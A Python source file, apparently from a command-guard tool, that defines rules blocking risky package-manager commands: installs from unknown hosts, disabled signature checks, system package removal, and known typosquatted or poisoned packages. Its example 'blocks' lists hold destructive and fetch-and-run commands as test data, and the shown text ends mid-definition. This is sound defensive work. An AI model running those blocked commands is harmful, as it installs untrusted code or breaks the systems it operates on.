"""Package managers that fetch and run code of unknown origin, switch their own checks off, or remove what a system stands on."""

from holdfast.guard.line import Command
from holdfast.guard.rule import Pack, Pattern

TYPE_CHECKING = False
if TYPE_CHECKING:
    from holdfast.guard.line import Line

# Hosts where code and packages ordinarily come from.
_HOSTS = (
    "github.com",
    "gitlab.com",
    "bitbucket.org",
    "codeberg.org",
    "pypi.org",
    "test.pypi.org",
    "files.pythonhosted.org",
    "pythonhosted.org",
    "download.pytorch.org",
    "pypi.nvidia.com",
    "pypi.ngc.nvidia.com",
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "npm.pkg.github.com",
    "rubygems.org",
    "huggingface.co",
    "storage.googleapis.com",
    "data.pyg.org",
    "raw.githubusercontent.com",
    "codeload.github.com",
    "objects.githubusercontent.com",
    "git.sr.ht",
    "gitee.com",
    "mirrors.aliyun.com",
    "pypi.tuna.tsinghua.edu.cn",
    "registry.npmmirror.com",
    "mirrors.cloud.tencent.com",
    "pypi.mirrors.ustc.edu.cn",
    "pkgs.dev.azure.com",
    "www.piwheels.org",
    "wheels.vllm.ai",
    "jsr.io",
    "deno.land",
    "esm.sh",
    "dl.fedoraproject.org",
    "dl.google.com",
    "download.docker.com",
    "packages.microsoft.com",
    "deb.nodesource.com",
    "apache.org",
    "archive.apache.org",
    "gitlab.gnome.org",
    "salsa.debian.org",
    "index.crates.io",
    "crates.io",
    "astral.sh",
    "python-poetry.org",
    "conda.anaconda.org",
    "repo.anaconda.com",
    "pypi.anaconda.org",
    "savannah.gnu.org",
    "sourceware.org",
    "git.kernel.org",
)
# Tools that people run without installing them; also every scope below.
_TOOLS = frozenset(
    """@angular/cli @antfu/ni @biomejs/biome @changesets/cli @commitlint/cli @diagrams/cli @nestjs/cli
@openapitools/openapi-generator-cli @playwright/test @redocly/cli @rushstack/heft @sveltejs/kit @tailwindcss/cli @vercel/ncc @vue/cli
all-contributors-cli allure asar astro autoprefixer aws-cdk ava babel backstop biome browserslist bun c8 cdk changeset changesets
chromatic clawhub clinic commitizen concurrently conventional-changelog convex cowsay cpx create-astro create-expo-app create-next-app
create-nuxt-app create-react-app create-react-router create-remix create-svelte create-t3-app create-turbo create-vite create-vue
cross-env cspell cucumber-js cypress danger degit del-cli depcheck dependency-cruiser detox docsify-cli docusaurus dotenv dotenv-cli
dprint drizzle-kit electron electron-builder electron-forge eleventy elm ember esbuild eslint eslint_d expo express-generator fastify
firebase firebase-tools flow forever gatsby gatsby-cli gh-pages gitmoji graphql-codegen grunt gulp hardhat hexo http-server husky
ignite iisexpress-proxy ionic jasmine jest jscodeshift jsdoc json-server json5 jsonlint karma knex knip ladle lerna less
license-checker lighthouse lint-staged live-server localtunnel madge markdown-link-check markdownlint markdownlint-cli
markdownlint-cli2 mocha msw naming ncu netlify netlify-cli newman next ng nodemon npm npm-check npm-check-updates npm-run-all
npm-run-all2 npkill nps nuxi nuxt nx nyc only-allow openapi-typescript openapi-typescript-codegen orval oxlint package-json
patch-package pkg playwright pm2 pnpm postcss postcss-cli prettier prisma publint pyright quasar quicktype react-devtools react-native
react-scripts redoc-cli release-it remix rimraf rollup rspack rsbuild sass sb secretlint semantic-release sequelize-cli serve
serverless shadcn shadcn-ui shx size-limit skills snyk solhint source-map-explorer spectral standard standard-version storybook
storybook@latest stylelint supabase sv svelte-check svelte-kit svgo swagger-cli swagger-codegen swc sync-request tailwindcss tap taze
terser ts-jest ts-node tsc tsd tsdx tslint tsoa tsup tsx turbo typedoc typeorm typescript ultracite uuid vercel verdaccio vite
vite-node vitepress vitest vue vue-tsc wait-on wait-port webpack webpack-cli wrangler xo yarn yo zx cc-safety-net
@anthropic-ai/claude-code claude-code repomix ccusage opencode-ai ruff black isort flake8 mypy pytest tox nox pre-commit poetry pdm
hatch twine build cookiecutter copier httpie yt-dlp ansible ansible-lint ansible-core pip-audit pip-tools pipdeptree bandit safety
coverage codespell djlint docformatter pyupgrade pylint pyproject-fmt sphinx sphinx-build mkdocs mkdocs-material jupyter jupyterlab
notebook ipython datasette sqlfluff sqlfmt streamlit uvicorn gunicorn hypercorn rich-cli textual ty basedpyright vulture deptry
interrogate towncrier commitizen semgrep checkov yamllint virtualenv pipenv conan meson ninja cmake cmakelang gersemi clang-format
clang-tidy pycowsay glances aider aider-chat llm markitdown mcp-server-fetch mcp-server-git mcp-server-time mcp-server-sqlite mcp
fastmcp openai huggingface-cli huggingface_hub hf dvc wandb maturin cibuildwheel auditwheel check-jsonschema check-manifest
validate-pyproject migrate-to-uv uv specify-cli gallery-dl dbt dbt-core kaggle locust litellm langgraph-cli marimo zizmor reuse
rust-just posting harlequin toolong tldr thefuck asciinema bump-my-version bump2version python-semantic-release flit setuptools-scm
pyinstaller nuitka""".split()
)
_SCOPES = (
    "@angular/",
    "@antfu/",
    "@anthropic-ai/",
    "@astrojs/",
    "@aws-amplify/",
    "@aws-sdk/",
    "@babel/",
    "@typescript/",
    "@biomejs/",
    "@capacitor/",
    "@changesets/",
    "@cloudflare/",
    "@commitlint/",
    "@cyclonedx/",
    "@docusaurus/",
    "@expo/",
    "@fastify/",
    "@google/",
    "@google-cloud/",
    "@graphql-codegen/",
    "@ionic/",
    "@jest/",
    "@lhci/",
    "@microsoft/",
    "@modelcontextprotocol/",
    "@nestjs/",
    "@next/",
    "@nrwl/",
    "@nuxt/",
    "@nx/",
    "@openai/",
    "@openapitools/",
    "@playwright/",
    "@prisma/",
    "@react-native/",
    "@react-native-community/",
    "@redocly/",
    "@rspack/",
    "@salesforce/",
    "@sanity/",
    "@sentry/",
    "@shopify/",
    "@socketsecurity/",
    "@stoplight/",
    "@storybook/",
    "@svgr/",
    "@sveltejs/",
    "@swc/",
    "@tailwindcss/",
    "@tanstack/",
    "@typescript-eslint/",
    "@types/",
    "@upstash/",
    "@vercel/",
    "@vitejs/",
    "@vitest/",
    "@vue/",
    "@wdio/",
    "@web/",
    "@webpack-cli/",
    "@yarnpkg/",
)
_TAKES = (
    "-p --package -c --call -w --workspace --prefix --registry --cache --from --with --with-requirements --with-editable --python "
    "--index-url "
    "--extra-index-url --index -i --default-index --refresh-package --env-file --directory --project --spec --pip-args --suffix "
    "--find-links"
)
_PIP_TAKES = (
    "-r --requirement -c --constraint -e --editable -t --target -i --index-url --extra-index-url -f --find-links --prefix --root --src "
    "--trusted-host --timeout --retries --proxy --cache-dir --python-version --platform --only-binary --no-binary --progress-bar --cert "
    "--group --upgrade-strategy --python -p --implementation --abi --log --config-settings -C --report --use-feature --exists-action"
)


def _words(command: Command) -> "list[str]":
    return [w or "" for w in command.words]


def _pip(command: Command) -> "Command | None":
    """The command from pip's own subcommand on; None when it is not pip."""
    program = command.program
    if program in ("uv", "uv.exe"):
        sub = command.sub("--directory --project --python -p --cache-dir --config-file")
        return sub.sub() if sub.program == "pip" else None
    if program.startswith(("python", "pypy")) or program == "py":
        words = command.words
        at = words.index("-m") + 1 if "-m" in words else len(words)
        if words[at : at + 1] != ["pip"] or any(w is not None and w[:1] != "-" for w in words[: at - 1]):
            return None
        return Command(command.argv[at + 1 :]).sub("--python --proxy --timeout --cert --log --cache-dir --exists-action")
    return command.sub("--python --proxy --timeout --cert --log --cache-dir --exists-action")


_PIPS = (
    "pip pip2 pip3 pip3.8 pip3.9 pip3.10 pip3.11 pip3.12 pip3.13 pip3.14 uv python python2 python3 python3.8 python3.9 python3.10 "
    "python3.11 "
    "python3.12 python3.13 python3.14 py"
)


def _host_of(url: str) -> str:
    """ "git+https://user@host:80/x" -> "host"."""
    rest = url.partition("://")[2]
    return rest.partition("/")[0].rpartition("@")[2].partition(":")[0].lower()


def _is_known_host(url: str) -> bool:
    host = _host_of(url)
    return (
        any(host == known or host.endswith("." + known) for known in _HOSTS)
        or host in ("localhost", "127.0.0.1")
        or host.endswith((".internal", ".local", ".corp", ".lan"))
    )


def _from_elsewhere(url: str) -> "str | None":
    """What is wrong with fetching a package from a url."""
    scheme = url.partition("://")[0].lower().rpartition("+")[2]
    host = _host_of(url)
    if host in ("localhost", "127.0.0.1"):
        return None
    if scheme in ("http", "git", "ftp") and "://" in url:
        return f"over an unprotected connection from {host}"
    if host.replace(".", "").isdigit():
        return f"from the bare address {host}"
    return None if _is_known_host(url) else f"from {host}"


def _pip_source(command: Command, line: "Line") -> "str | None":
    sub = _pip(command)
    if sub is None or sub.program not in ("install", "download", "wheel", "config"):
        return None
    if sub.program == "config":
        text = " ".join(_words(sub))
        return f"`{command}` weakens every later installation" if "trusted-host" in text or "http://" in text else None
    if sub.flag_value("--trusted-host") is not None:
        return f"`{command}` installs without checking whom it talks to"
    for option in ("-i", "--index-url", "--extra-index-url", "-f", "--find-links", "-r", "--requirement", "-e", "--editable"):
        value = sub.flag_value(option)
        url = value.shown if value is not None else ""
        if "://" in url:
            wrong = _from_elsewhere(url)
            index = option in ("-i", "--index-url", "--extra-index-url")
            if wrong and not (index and wrong == f"from {_host_of(url)}"):
                return f"`{command}` installs code {wrong}"
    for arg in sub.operands(_PIP_TAKES):
        url = arg.shown.rpartition(" @ ")[2]
        if "://" in url and not url.startswith("file:") and not url.startswith("$"):
            wrong = _from_elsewhere(url)
            if wrong:
                return f"`{command}` installs code {wrong}"
    return None


def _system_python(command: Command, line: "Line") -> "str | None":
    sub = _pip(command)
    if sub is None or sub.program not in ("install", "uninstall"):
        return None
    # An image that is being built says so by keeping no cache, and its Python belongs to nobody else.
    if sub.has_flag("--break-system-packages") and not sub.has_flag("--no-cache-dir"):
        return f"`{command}` overwrites packages that the operating system relies on"
    if (
        command.root
        and command.program not in ("uv",)
        and not (command.argv[0].value or "").startswith((".", "venv", "/opt/", "/work", "/home/", "~"))
    ):
        return f"`{command}` runs every package's setup code as root and changes the system's Python"
    return None


def _run_unknown(command: Command, line: "Line") -> "str | None":
    """npx, bunx, pnpm dlx, uvx, pipx run: a package that is fetched and run at once."""
    program, words = command.program, _words(command)
    view = command
    if program in ("npm", "pnpm", "yarn", "bun", "uv", "pipx"):
        view = command.sub("--prefix -C --dir --cwd --registry -w --workspace --filter --directory --project")
        verb = view.program
        if program == "uv":
            if verb != "tool":
                return None
            view = view.sub()
            verb = view.program
        if (
            verb
            not in ({"npm": ("exec", "x"), "pnpm": ("dlx",), "yarn": ("dlx",), "bun": ("x",), "uv": ("run",), "pipx": ("run",)}[program])
        ):
            return None
    asked = view.flag_value("-p", "--package", "--from", "--spec") if program not in ("uvx", "uv") else view.flag_value("--from")
    operands = [a for a in view.operands(_TAKES)]
    named = asked if asked is not None else operands[0] if operands else None
    if named is None:
        return None
    if named.value is None:
        return (
            None
            if program in ("npx", "npm")
            else f"`{command}` fetches and runs a package that is not named here"
            if named.prefix == ""
            else None
        )
    name = named.value
    if "://" in name or name.startswith(("git+", "github:", "gitlab:", "gist:", "bitbucket:", "http:", "https:")):
        wrong = _from_elsewhere(name)
        if (
            wrong
            or name.startswith("gist:")
            or program in ("npx", "bunx", "npm", "pnpm", "yarn", "bun")
            and not name.startswith(("github:",))
        ):
            return f"`{command}` fetches a program and runs it at once"
        return None
    if name.startswith((".", "/", "~", "file:")):
        return None
    bare = name.partition("==")[0].partition("[")[0]
    bare = bare[:1] + bare[1:].partition("@")[0]
    if bare in _TOOLS or bare.startswith(_SCOPES) or bare.startswith(("create-", "eslint-", "@storybook/", "mcp-server-")):
        return None
    pinned = "@" in name[1:] and any(c.isdigit() for c in name[1:].partition("@")[2]) or "==" in name
    if pinned:
        return None
    # npx and bunx run what the project has installed under that name; only `-y` says that it may be fetched.
    agreed = program in ("uvx", "pipx", "uv", "pnpm", "yarn") or any(w in ("-y", "--yes") for w in words)
    return f"`{command}` fetches {bare} and runs it at once" if agreed else None


def _node_source(command: Command, line: "Line") -> "str | None":
    program, words = command.program, _words(command)
    sub = command.sub("--prefix -C --dir --cwd --registry -w --workspace --filter")
    if sub.program in ("config", "c", "set"):
        text = " ".join(words).replace("=", " ").replace("  ", " ")
        weak = ("strict-ssl false", "script-shell", "registry http:", "enableStrictSsl false", "unsafe-perm true", "node-options", "git ")
        return (
            f"`{command}` weakens every later installation"
            if any(w in text for w in weak) and "get " not in text and "delete" not in text
            else None
        )
    if sub.program not in ("install", "i", "add", "in", "ins", "isntall", "link", "update"):
        return None
    registry = command.flag_value("--registry")
    if registry is not None and registry.shown.startswith("http://") and not _is_known_host(registry.shown):
        return f"`{command}` installs code {_from_elsewhere(registry.shown)}"
    if command.root and program in ("npm", "yarn", "pnpm") and any(w in ("--unsafe-perm", "--unsafe-perm=true") for w in words):
        return f"`{command}` runs every package's setup code as root"
    for arg in sub.operands(_TAKES):
        url = arg.shown
        url = url[:1] + url[1:].rpartition("@npm:")[2] if "@npm:" in url else url
        if "://" in url and not url.startswith(("file:", "link:", "$")):
            wrong = _from_elsewhere(url)
            if wrong:
                return f"`{command}` installs code {wrong}"
    return None


def _other_source(command: Command, line: "Line") -> "str | None":
    program, words = command.program, _words(command)
    text = " ".join(words)
    urls = [w for w in (x.partition("=")[2] or x for x in words) if "://" in w]
    bad = [wrong for url in urls if (wrong := _from_elsewhere(url))]
    if program == "gem":
        if words[:1] == ["sources"] and command.has_flag("a", "--add") or command.has_flag("--source", "s") or words[:1] == ["install"]:
            return f"`{command}` installs code {bad[0]}" if bad else None
        return None
    if program == "cargo":
        return (
            f"`{command}` installs code {bad[0]}" if words[:1] == ["install"] and bad and command.flag_value("--git", "--index") else None
        )
    if program == "go":
        weak = (
            words[:1] == ["env"]
            and "-w" in words
            and any(w in text for w in ("GOINSECURE", "GONOSUMCHECK", "GONOSUMDB", "GOFLAGS=-insecure", "GOSUMDB=off", "GOPROXY=http:"))
        )
        return (
            f"`{command}` weakens every later installation"
            if weak or words[:1] in (["get"], ["install"]) and "-insecure" in words
            else None
        )
    if program == "conda" or program == "mamba" or program == "micromamba":
        weak = "ssl_verify" in text and ("false" in text.lower() or "no" in words)
        return f"`{command}` weakens every later installation" if weak else None
    if program in ("easy_install", "luarocks", "cpan", "cpanm", "composer", "pecl"):
        weak = "disable-tls" in text or "secure-http false" in text
        return f"`{command}` installs code {bad[0] if bad else 'without protection'}" if bad or weak else None
    if program in ("deno", "bun"):
        all_rights = any(w in ("-A", "--allow-all", "-A=", "--allow-run") for w in words)
        return (
            f"`{command}` fetches a program and runs it" if urls and (bad or all_rights) and words[:1] in (["run"], ["install"]) else None
        )
    if program in (
        "yum-config-manager",
        "dnf",
        "zypper",
        "add-apt-repository",
        "apt-add-repository",
        "rpm",
        "flatpak",
        "apk",
        "brew",
        "opkg",
    ):
        adds = any(
            w
            in (
                "--add-repo",
                "config-manager",
                "addrepo",
                "ar",
                "--import",
                "-i",
                "-U",
                "-ivh",
                "-Uvh",
                "install",
                "remote-add",
                "tap",
                "add",
            )
            or w.startswith(("--add-repo", "deb ", "--repository", "http"))
            for w in words
        )
        plain = [u for u in urls if u.lower().rpartition(" ")[2].startswith("http://") or u.lower().startswith("http://")]
        numeric = [u for u in urls if _host_of(u).replace(".", "").isdigit()]
        if adds and (plain or numeric):
            return f"`{command}` takes packages {_from_elsewhere((plain or numeric)[0])}"
    return None


def _unchecked(command: Command, line: "Line") -> "str | None":
    program, words = command.program, _words(command)
    text = " ".join(words)
    if program in ("apt", "apt-get", "aptitude", "apt-key"):
        weak = any(
            w in text
            for w in (
                "--allow-unauthenticated",
                "--force-yes",
                "AllowUnauthenticated=true",
                "AllowUnauthenticated=1",
                "AllowInsecureRepositories=true",
                "--allow-insecure-repositories",
                "Verify-Peer=false",
                "trusted=yes",
                "Check-Valid-Until=false_",
                "--allow-remove-essential",
            )
        )
    elif program in ("add-apt-repository", "apt-add-repository"):
        weak = "trusted=yes" in text
    elif program in ("yum", "dnf", "microdnf", "tdnf"):
        weak = any(w in text for w in ("--nogpgcheck", "gpgcheck=0", "sslverify=0", "sslverify=false", "gpgcheck=false"))
    elif program == "rpm":
        weak = any(w in ("--nosignature", "--nodigest", "--nofiledigest") for w in words)
    elif program == "zypper":
        weak = any(w.startswith(("--no-gpg-check", "--gpg-auto-import")) for w in words) and "--no-gpg-checks" in words
    elif program == "apk":
        weak = "--allow-untrusted" in words and not any(w.endswith(".apk") and "://" not in w for w in words)
    elif program == "snap":
        weak = any(w in ("--dangerous", "--devmode", "--jailmode") for w in words)
    elif program == "pacman":
        weak = "SigLevel" in text or "--overwrite" in text and "*" in text
    elif program == "brew":
        weak = words[:1] in (["uninstall"], ["remove"], ["rm"]) and "--ignore-dependencies" in words or "--no-quarantine" in words
    elif program == "nix" or program == "nix-build" or program == "nix-env":
        weak = "require-sigs false" in text or "--no-require-sigs" in words or "sandbox false" in text or "--no-sandbox" in words
    elif program == "helm":
        weak = "--insecure-skip-tls-verify" in words
    else:
        weak = False
    return f"`{command}` installs without the checks that packages have" if weak else None


_BASE = frozenset(
    """libc6 libc-bin glibc musl systemd systemd-sysv init sysvinit-core openssh-server openssh-client sudo bash dash coreutils
util-linux apt dpkg rpm yum dnf pacman apk-tools busybox grub-pc grub2 grub-efi-amd64 grub-common linux-image-amd64
linux-image-generic linux-generic kernel kernel-core filesystem base-files base-passwd login passwd libpam-runtime pam network-manager
python3
NetworkManager netplan.io ifupdown ubuntu-minimal ubuntu-standard ubuntu-desktop python3-minimal libpython3-stdlib perl-base tar gzip
mount e2fsprogs initramfs-tools dracut auditd audit apparmor selinux-policy ufw firewalld iptables nftables fail2ban clamav falco
osquery crowdstrike falcon-sensor libssl3 gnome-shell gdm3""".split()
)


def _remove_base(command: Command, line: "Line") -> "str | None":
    program, words = command.program, _words(command)
    if any(
        w in ("-s", "--simulate", "--dry-run", "--just-print", "--no-act", "--recon", "-p", "--print", "--test", "--assumeno")
        for w in words
    ):
        return None
    if program in (
        "apt",
        "apt-get",
        "aptitude",
        "yum",
        "dnf",
        "microdnf",
        "zypper",
        "tdnf",
        "pkg",
        "brew",
        "snap",
        "apk",
        "port",
        "xbps-remove",
        "emerge",
    ):
        verbs = ("remove", "purge", "erase", "rm", "uninstall", "del", "delete", "autopurge", "autoremove", "--unmerge", "-C", "-R")
        if not any(w in verbs for w in words[:6]) and program != "xbps-remove":
            return None
    elif program == "dpkg":
        if any(
            w.startswith(
                (
                    "--force-all",
                    "--force-depends",
                    "--force-remove",
                    "--force-bad-verify",
                    "--force-hold",
                    "--force-not-root",
                    "--force-breaks",
                    "--force-overwrite-dir",
                    "--force-script-chrootless",
                )
            )
            for w in words
        ):
            return f"`{command}` installs or removes against the checks that packages have"
        if not command.has_flag("r", "P", "--remove", "--purge"):
            return None
    elif program == "rpm":
        if not command.has_flag("e", "--erase") or command.has_flag("q", "--query"):
            return None
        if command.has_flag("--nodeps", "--force", "--noscripts"):
            return f"`{command}` removes what other packages need"
    elif program == "pacman":
        if not any(w.startswith("-R") or w == "--remove" for w in words):
            return None
        if any(w.startswith(("-Rdd", "-Rc")) or w == "--nodeps" for w in words):
            return f"`{command}` removes what other packages need"
    for word in words:
        name = word.partition(":")[0].partition("=")[0].rstrip("*")
        if program == "apk" and name not in ("musl", "busybox", "apk-tools", "alpine-baselayout"):
            continue  # images are made smaller that way
        if word in ("*", ".*", "^.*") or name in _BASE or name.startswith(("linux-image", "kernel-")) and program not in ("brew",):
            return f"`{command}` removes {word}, which the system stands on"
    return None


_BAD = frozenset(
    """npm:crossenv npm:cross-env.js npm:d3.js npm:fabric-js npm:ffmepg npm:gruntcli npm:jquery.js npm:mariadb npm:mongose
npm:mssql.js npm:nodecaffe npm:nodefabric npm:node-fabric npm:nodeffmpeg npm:nodemailer-js npm:nodemailer.js npm:nodemssql
npm:node-opencv npm:node-opensl npm:node-openssl npm:noderequest npm:nodesass npm:nodesqlite npm:node-sqlite npm:node-tkinter
npm:opencv.js npm:openssl.js npm:proxy.js npm:shadowsock npm:smb npm:sqliter npm:sqlserver npm:tkinter npm:flatmap-stream
npm:getcookies npm:electron-native-notify npm:lodahs npm:loadsh npm:lodashs npm:expresss npm:exprss npm:axois npm:axioss npm:reactt
npm:raect npm:recat npm:momnet npm:momen npm:chalkk npm:chlak npm:commandar npm:comander npm:typscript npm:typescripts npm:webpak
npm:weback npm:eslnt npm:esslint npm:babelcli npm:discord.dll npm:discord-selfbot-v14 npm:twilio-npm npm:rc-js npm:fallguys
npm:noblox.js-proxy npm:noblox.js-proxied npm:jdb.js npm:db-json.js npm:plain-crypto-js npm:electorn npm:nodemonn npm:dotenvv
npm:monogoose npm:mongooose npm:sequalize pip:reqeusts pip:requesrs pip:requets pip:requestss pip:reqests pip:rquests pip:request
pip:urlib3 pip:urllib pip:urllib4 pip:setup-tools pip:setuptool pip:python3-dateutil pip:jeilyfish pip:colourama pip:colorsama
pip:coloroma pip:beautifulsoup pip:beautfulsoup4 pip:beautifulsup4 pip:djanga pip:dajngo pip:djnago pip:diango pip:flaskk pip:falsk
pip:numppy pip:nunpy pip:numpyy pip:pandass pip:pandsa pip:panda pip:matplotlb pip:maplotlib pip:mathplotlib pip:tensorfllow
pip:tensoflow pip:tesnorflow pip:pytroch pip:pytorhc pip:torchtriton pip:scikitlearn pip:sckit-learn pip:scipyy pip:cryptografy
pip:crytpography pip:pycrpto pip:openvc pip:opencv-pyton pip:selemium pip:seleniumm pip:pilow pip:pillwo pip:pyyaml3 pip:pyymal
pip:ymal pip:boto33 pip:btoo3 pip:botocor pip:httplib3 pip:phpass pip:ctx pip:noblesse pip:acqusition pip:apidev-coop pip:bzip
pip:crypt pip:django-server pip:pwd pip:telnet pip:libpeshnx pip:libpeshka pip:mplatlib pip:openaai pip:openia pip:antropic
pip:anthropic-ai pip:langchian pip:huggingface_hubb pip:transfomers pip:tranformers""".split()
)
_BAD_VERSIONS = frozenset(
    """event-stream@3.3.6 ua-parser-js@0.7.29 ua-parser-js@0.8.0 ua-parser-js@1.0.0 coa@2.0.3 coa@2.0.4 rc@1.2.9 rc@1.3.9 rc@2.3.9
node-ipc@10.1.1 node-ipc@10.1.2 node-ipc@11.0.0 colors@1.4.1 colors@1.4.2 faker@6.6.6 eslint-scope@3.7.2 eslint-config-eslint@5.0.2
chalk@5.6.1 debug@4.4.2 ansi-styles@6.2.2 strip-ansi@7.1.1 color-convert@3.1.1 axios@1.14.1 axios@0.30.4 ctx==0.2.2 ctx==0.2.6
ultralytics==8.3.41 ultralytics==8.3.42 litellm==1.82.7 litellm==1.82.8""".split()
)


def _look_alike(command: Command, line: "Line") -> "str | None":
    """A name that is known to stand in for a popular package, or a release that is known to have been poisoned."""
    sub: "Command | None"
    if command.program in ("npm", "yarn", "pnpm", "bun"):
        kind, sub = "npm", command.sub("--prefix -C --dir --cwd --registry")
    elif command.program == "npx" or command.program == "bunx":
        kind, sub = "npm", command
    else:
        kind, sub = "pip", _pip(command)
    if sub is None or sub is not command and sub.program not in ("install", "i", "add", "exec", "dlx", "download", "x"):
        return None
    for arg in sub.operands(_TAKES + " " + _PIP_TAKES):
        text = (arg.value or "").lower()
        name = text[:1] + text[1:].partition("@")[0].partition("==")[0].partition("[")[0].partition(">")[0]
        if f"{kind}:{name}" in _BAD or text in _BAD_VERSIONS:
            return f"`{command}` installs {text}, which is known to pose as another package or to be poisoned"
    return None


def _whole_system(command: Command, line: "Line") -> "str | None":
    words = _words(command)
    text = " ".join(words)
    bad = {
        "do-release-upgrade": not command.has_flag("c", "--check-dist-upgrade-only"),
        "dnf": "system-upgrade" in words and "reboot" in words,
        "softwareupdate": command.has_flag("i", "--install") and command.has_flag("a", "r", "--all", "R", "--restart"),
        "freebsd-update": "upgrade" in words,
        "pkcon": words[:1] == ["upgrade-system"],
        "rpm-ostree": words[:1] in (["rebase"], ["rollback"], ["reset"], ["deploy"]),
        "nixos-rebuild": any(w in words for w in ("switch", "boot")),
        "bootc": words[:1] in (["switch"], ["upgrade"], ["rollback"]),
        "ubuntu-drivers": "autoinstall" in text,
        "startosinstall": True,
        "transactional-update": bool(words),
    }[command.program]
    return f"`{command}` replaces the whole operating system" if bad else None


PACK = Pack(
    "packages",
    Pattern(
        code="PKG001",
        title="running a package nobody has named before",
        severity="caution",
        test=_run_unknown,
        programs="npx bunx npm pnpm yarn bun uvx uv pipx",
        why="Whatever has that name at this moment is fetched and run with all rights.",
        instead="Add the tool to the project with a version and run it from there.",
        blocks=(
            "npx -y totally-unknown-helper",
            "uvx some-unknown-tool",
            "pnpm dlx strange-thing && true",
            "npx https://example.invalid/x.tgz",
            "npm exec -y -- weird-installer",
            "pipx run obscure-package",
        ),
        allows=(
            "npx eslint .",
            "npx -y create-vite app",
            "uvx ruff check",
            "npx local-tool",
            "pnpm dlx prettier --check .",
            "pipx run black .",
            "npx -y strange-thing@1.2.3",
        ),
    ),
    Pattern(
        code="PKG002",
        title="Python package of unknown origin",
        programs=_PIPS,
        test=_pip_source,
        why="Installing a package runs its code, and nobody vouches for that place.",
        instead="Install a named release from the package index, for example `pip install requests==2.32.3`.",
        blocks=(
            "pip install http://example.invalid/x.tar.gz",
            "pip install --trusted-host example.invalid x",
            "pip install -i http://192.0.2.7/simple x",
            "python3 -m pip install git+https://example.invalid/a/b",
            "cd api && pip install git+http://github.com/a/b",
        ),
        allows=(
            "pip install requests==2.32.3",
            "pip install git+https://github.com/pallets/flask",
            "pip install -r requirements.txt",
            "pip install torch --index-url https://download.pytorch.org/whl/cpu",
            "pip install -e .",
            "pip install ./dist/x.whl",
        ),
    ),
    Pattern(
        code="PKG003",
        title="changing the system's Python",
        programs=_PIPS,
        test=_system_python,
        why="The operating system's own tools rely on these packages.",
        instead="Use an environment of the project: `python3 -m venv .venv`, then `.venv/bin/pip install requests`.",
        blocks=(
            "pip install --break-system-packages requests",
            "sudo pip install httpx",
            "sudo -H python3 -m pip install -U pip",
            "true && pip3 uninstall --break-system-packages six",
        ),
        allows=(
            "pip install requests",
            "python3 -m pip install --user requests",
            ".venv/bin/pip install -r requirements.txt",
            "sudo pip --version",
            "pip3 install --no-cache-dir --break-system-packages numpy",
            "uv pip install --system ruff",
        ),
    ),
    Pattern(
        code="PKG004",
        title="node package of unknown origin",
        programs="npm pnpm yarn bun",
        test=_node_source,
        why="Installing a package runs its code, and nobody vouches for that place.",
        instead="Install a named release from the registry, for example `npm install left-pad@1.3.0`.",
        blocks=(
            "npm install https://example.invalid/x.tgz",
            "npm i git+http://github.com/a/b.git",
            "npm config set strict-ssl false",
            "yarn add http://192.0.2.7/p.tgz && true",
            "npm install --registry http://example.invalid x",
        ),
        allows=(
            "npm install",
            "npm ci",
            "npm install left-pad@1.3.0",
            "npm i -g typescript",
            "npm install github:user/repo",
            "yarn add file:../lib",
            "npm config get registry",
            "npm install --registry=https://registry.npmjs.org",
        ),
    ),
    Pattern(
        code="PKG005",
        title="package of unknown origin",
        test=_other_source,
        programs="gem cargo go conda mamba micromamba easy_install luarocks cpan cpanm composer pecl deno bun yum-config-manager dnf "
        "zypper "
        "add-apt-repository apt-add-repository rpm flatpak apk brew opkg",
        why="Installing a package runs its code, and nobody vouches for that place.",
        instead="Install a named release from the usual registry.",
        blocks=(
            "gem install rake --source http://example.invalid",
            "cargo install --git http://example.invalid/x",
            "go env -w GOSUMDB=off",
            "rpm -i http://192.0.2.7/x.rpm",
            "deno run -A https://example.invalid/x.ts",
            "conda config --set ssl_verify false",
        ),
        allows=(
            "gem install bundler",
            "cargo install ripgrep",
            "go install example.com/tool@latest",
            "rpm -qa",
            "cargo install --git https://github.com/a/b",
            "brew install jq",
            "conda install numpy",
        ),
    ),
    Pattern(
        code="PKG006",
        title="installing without checks",
        test=_unchecked,
        programs="apt apt-get aptitude add-apt-repository apt-add-repository yum dnf microdnf tdnf rpm zypper apk snap pacman brew nix "
        "nix-build nix-env helm",
        why="Signatures are what tells a package from a stranger's code.",
        instead="Install from a signed source, for example `apt-get install -y jq`.",
        blocks=(
            "apt-get install --allow-unauthenticated x",
            "yum install --nogpgcheck x.rpm",
            "sudo apk add --allow-untrusted x",
            "snap install x.snap --dangerous",
            "rpm -Uvh --nosignature x.rpm && true",
            "apt-get -y --force-yes install x",
        ),
        allows=(
            "apt-get install -y jq",
            "dnf install -y git",
            "apk add --no-cache curl",
            "snap install go --classic",
            "brew uninstall jq",
            "zypper --non-interactive install git",
        ),
    ),
    Pattern(
        code="PKG007",
        title="removing what the system stands on",
        test=_remove_base,
        programs="apt apt-get aptitude yum dnf microdnf zypper tdnf pkg brew snap apk port xbps-remove emerge dpkg rpm pacman",
        why="The machine may no longer start, be reached or be protected.",
        instead="Look first with `apt-get -s remove jq`.",
        blocks=(
            "apt-get purge -y openssh-server",
            "sudo apt remove --purge libc6",
            "rpm -e --nodeps glibc",
            "dpkg --force-all -r x",
            "pacman -Rdd systemd",
            "yum remove -y kernel-core && true",
        ),
        allows=(
            "apt-get remove -y nodejs",
            "apt-get purge -y --auto-remove gcc",
            "dpkg -i x.deb",
            "apt-get -s remove libc6",
            "rpm -qa",
            "apt-get install -y sudo",
            "dpkg --force-confold -i x.deb",
        ),
    ),
    Pattern(
        code="PKG008",
        title="a package that poses as another",
        programs="npm pnpm yarn bun npx bunx " + _PIPS,
        test=_look_alike,
        why="Such packages steal keys as soon as they are installed.",
        instead="Check the spelling on the project's own page, then install that name.",
        blocks=("pip install reqeusts", "npm install crossenv", "npm i event-stream@3.3.6 && true", "python3 -m pip install colourama"),
        allows=("pip install requests colorama", "npm install cross-env", "npm i event-stream@4.0.1", "pip install urllib3"),
    ),
    Pattern(
        code="PKG009",
        title="replacing the operating system",
        test=_whole_system,
        programs="do-release-upgrade dnf softwareupdate freebsd-update pkcon rpm-ostree nixos-rebuild bootc ubuntu-drivers startosinstall "
        "transactional-update",
        why="The machine may not come back, and every program on it changes.",
        instead="Upgrade the one package that is needed.",
        blocks=("do-release-upgrade -f DistUpgradeViewNonInteractive", "sudo softwareupdate -i -a -R", "nixos-rebuild switch && true"),
